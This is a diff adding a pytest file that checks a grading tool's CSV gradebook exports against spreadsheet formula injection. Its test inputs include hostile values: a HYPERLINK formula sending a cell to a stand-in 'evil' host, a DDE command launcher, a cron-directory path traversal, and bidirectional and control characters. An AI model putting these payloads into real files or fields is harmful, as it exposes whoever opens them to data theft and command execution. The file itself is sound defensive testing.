@@ -1,0 +1,90 @@
+"""What a mentor opens in a spreadsheet: whoever writes a formula for a name has written a text."""
+
+from __future__ import annotations
+
+import csv
+import unicodedata
+from dataclasses import replace
+from pathlib import Path
+
+import pytest
+
+from tfprep.grader import Record, read_submission
+from tfprep.grader.cohort import Cohort, Learner, Result, Standing
+from tfprep.grader.ledger import Ledger
+from tfprep.reports.gradebook import write_exports
+
+from .range import Range, assert_invalid, assert_scored
+from .test_reports import model_named
+
+HOSTILE = {
+    "a formula": '=HYPERLINK("http://evil/?"&A1;"click")',
+    "a command": "=cmd|'/C calc'!A0",
+    "a formula behind a separator": "ann;=1+1,\t@SUM(1)",
+    "a formula behind a quote": '"=1+1',
+    "a formula on a second line": "ann\n=1+1\r\n-1+1",
+    "a wide formula": "\uff1d1+1",
+    "a plus and a minus": "+1-cmd|x",
+    "a path": "../../etc/cron.d/mallory",
+    "turned text": "\u202e5 fo 5 DESSAP\u2066",
+    "control characters": "ann\x00\x07\x1b[2J\x9b31m",
+}
+
+
+@pytest.mark.parametrize("kind", HOSTILE)
+def test_a_learner_s_id_and_name_are_text_in_every_table(
+    target: Range, vehicles: Path, tmp_path: Path, kind: str
+) -> None:
+    learner = HOSTILE[kind]
+    graded = target.attack_with(read_submission(vehicles / "honest.h5", "problem2", learner))
+    assert_scored(graded.card, 5)
+    with Ledger.open(tmp_path / "ledger.db") as ledger:
+        record = ledger.record(graded)
+    assert_harmless_tables(record, learner, tmp_path / "exports")
+
+
+@pytest.mark.parametrize("kind", HOSTILE)
+def test_what_a_model_s_layer_is_called_is_text_in_every_table(
+    target: Range, vehicles: Path, tmp_path: Path, kind: str
+) -> None:
+    path = tmp_path / "mymodel.h5"
+    path.write_bytes(model_named(vehicles, HOSTILE[kind]))
+    card = target.attack_with_file(path)
+    assert_invalid(card, "is a Lambda: it carries program code")
+    with Ledger.open(tmp_path / "ledger.db") as ledger:
+        honest = ledger.record(target.attack_with(target.honest))
+    assert_harmless_tables(replace(honest, card=card), "mallory", tmp_path / "exports")
+
+
+def assert_harmless_tables(record: Record, learner: str, folder: Path) -> None:
+    """Written where they should be, and read with any separator, no cell is run by a spreadsheet."""
+    result = Result("problem2", record, (record,), points=float(record.card.score or 0))
+    person = Learner(learner, learner, learner, {"Email address": learner, "ID number": learner})
+    cohort = Cohort(learner, ("problem2",), (1.0,), (Standing(person, (result,), 20 * result.points),))
+    written = write_exports(cohort, folder)
+    assert {path.parent for path in written} == {folder}
+    tables = [path for path in written if path.suffix == ".csv"]
+    assert len(tables) >= 3
+    for path in tables:
+        text = path.read_text(encoding="utf-8-sig")
+        assert not [
+            sign for sign in text if unicodedata.category(sign) in ("Cc", "Cf") and sign not in "\r\n"
+        ]
+        for separator in ",;\t":
+            for row in csv.reader(text.splitlines(), delimiter=separator):
+                assert not [cell for cell in row if would_run(cell)], row
+
+
+def would_run(cell: str) -> bool:
+    """Whether a spreadsheet takes a cell for a formula. A negative number is one that does nothing."""
+    begins = unicodedata.normalize("NFKC", cell.strip().lstrip('"').strip())[:1]
+    return begins in ("=", "+", "-", "@") and bool(begins) and not is_number(cell)
+
+
+def is_number(cell: str) -> bool:
+    """Whether a cell holds nothing but a number."""
+    try:
+        float(cell)
+    except ValueError:
+        return False
+    return True
